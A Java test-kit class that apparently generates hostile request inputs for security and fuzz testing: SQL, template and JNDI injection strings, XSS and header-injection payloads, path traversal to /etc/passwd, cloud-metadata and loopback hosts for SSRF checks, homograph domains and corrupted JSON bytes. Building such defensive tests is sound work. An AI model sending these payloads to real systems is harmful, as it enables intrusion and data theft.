package org.ncii.testkit.hostile;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.StreamWriteConstraints;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Generators for hostile request content: injection text, refused URLs, wrong JSON types, deep nesting and
 * byte-level corruption. The {@code @QuarkusTest} classes draw their cases through {@link HostileRun} with a fixed seed.
 */
public final class HostileInput {
    public static final ObjectMapper JSON = new ObjectMapper();
    /** Writes nesting far past the default write limit, so the server's read limit is what gets tested. */
    private static final ObjectMapper DEEP_WRITER = new ObjectMapper(JsonFactory.builder()
            .streamWriteConstraints(StreamWriteConstraints.builder().maxNestingDepth(100_000).build()).build());
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Hosts an attacker would like a server to reach or a reader to confuse: private, metadata, loopback, homographs. */
    public static final List<String> HOSTS = List.of("169.254.169.254", "[fd00:ec2::254]", "10.0.0.1", "192.168.1.1",
            "127.0.0.1", "[::1]", "localhost", "0.0.0.0", "100.64.0.1", "\u0430pple.com", "xn--pple-43d.com",
            "g\u043e\u043egle.com", "metadata.google.internal");

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE outbox_event; --", "1; SELECT pg_sleep(10)--", "\" OR 1=1 --",
            "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{#if true}x{/if}", "{inject:bean}", "${jndi:ldap://10.0.0.1/a}",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]><!--", "%00", "%0d%0aSet-Cookie: a=b",
            "\r\nX-Injected: 1", "..\\..\\..\\etc\\passwd", "../../../../etc/passwd", "\u202egnp.exe", "\u0000",
            "\uFEFF", "\uD83D\uDE00", "\u0007\u001b[31m", "null", "NaN", "-0", "9".repeat(400), "[]", "{}");

    private HostileInput() {
    }

    /** URLs every service must refuse where a URL is asked for: foreign schemes, embedded credentials, no host. */
    public static Gen<String> refusedUrl() {
        Gen<String> host = Gen.of(HOSTS);
        Gen<String> path = Gen.strings(Gen.LETTERS + Gen.DIGITS, 0, 20);
        return Gen.oneOf(
                Gen.combine(Gen.of("https", "http"), host, path, (s, h, p) -> s + "://user:secret@" + h + "/" + p),
                Gen.combine(host, path, (h, p) -> "https://:token@" + h + "/" + p),
                path.map(p -> "javascript:alert('" + p + "')"),
                path.map(p -> "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" + p),
                Gen.combine(Gen.of("file", "ftp", "gopher", "ldap", "dict", "jar:file"), host, path,
                        (s, h, p) -> s + "://" + h + "/" + p),
                path.map(p -> "https:///" + p),
                path.map(p -> "//" + p),
                Gen.of(INJECTIONS));
    }

    /** Hostile text: injections, refused URLs, control characters, any code point, and strings past every size rule. */
    public static Gen<String> text() {
        return Gen.frequency(
                Gen.weight(4, Gen.of(INJECTIONS)),
                Gen.weight(3, refusedUrl()),
                Gen.weight(2, Gen.strings('\u0000', '\u001f', 1, 16)),
                Gen.weight(3, Gen.anyStrings(0, 40)),
                Gen.weight(1, Gen.strings("a\u0430\u0435\u043e<>'\"{}$", 2100, 5000)));
    }

    /** Values of the wrong JSON type for a string, enum, boolean or timestamp field. */
    public static Gen<JsonNode> wrongType() {
        return Gen.oneOf(
                text().map(t -> (JsonNode) NODES.objectNode().put("$where", t)),
                text().list(5).map(HostileInput::array),
                Gen.integers(2, 3000).map(HostileInput::deep),
                Gen.just(NODES.objectNode()),
                Gen.just(NODES.arrayNode()));
    }

    /** Nested arrays {@code depth} levels deep, past the parser's nesting limit at the high end. */
    public static JsonNode deep(int depth) {
        JsonNode node = NODES.textNode("{{7*7}}");
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static JsonNode array(List<String> items) {
        ArrayNode array = NODES.arrayNode();
        items.forEach(array::add);
        return array;
    }

    /** Byte-level damage to an already invalid body; {@code NONE} keeps it well-formed so validation is reached. */
    public enum Damage {
        NONE, NONE_AGAIN, INVALID_UTF8, RAW_CONTROL, TRUNCATED, TRAILING, NOT_AN_OBJECT, BOM_AND_GARBAGE
    }

    public static Gen<Damage> damage() {
        return Gen.of(Damage.class);
    }

    /** The body's bytes after the damage; {@code at} picks the position (0..1) where bytes are cut or inserted. */
    public static byte[] bytes(ObjectNode body, Damage damage, double at) {
        byte[] json = write(body);
        int position = Math.max(1, (int) (json.length * at) - 1);
        return switch (damage) {
            case NONE, NONE_AGAIN -> json;
            case INVALID_UTF8 -> insert(json, position, new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
            case RAW_CONTROL -> insert(json, position, new byte[] {0x01, 0x00, 0x1b});
            case TRUNCATED -> Arrays.copyOf(json, position);
            case TRAILING -> insert(json, json.length, "}]\"".getBytes(StandardCharsets.UTF_8));
            case NOT_AN_OBJECT -> insert(insert(json, 0, new byte[] {'['}), json.length + 1, new byte[] {']'});
            case BOM_AND_GARBAGE -> insert(json, 0, new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '<', '?', 'x'});
        };
    }

    private static byte[] write(ObjectNode body) {
        try {
            return DEEP_WRITER.writeValueAsBytes(body);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] insert(byte[] json, int position, byte[] extra) {
        byte[] out = new byte[json.length + extra.length];
        System.arraycopy(json, 0, out, 0, position);
        System.arraycopy(extra, 0, out, position, extra.length);
        System.arraycopy(json, position, out, position + extra.length, json.length - position);
        return out;
    }
}
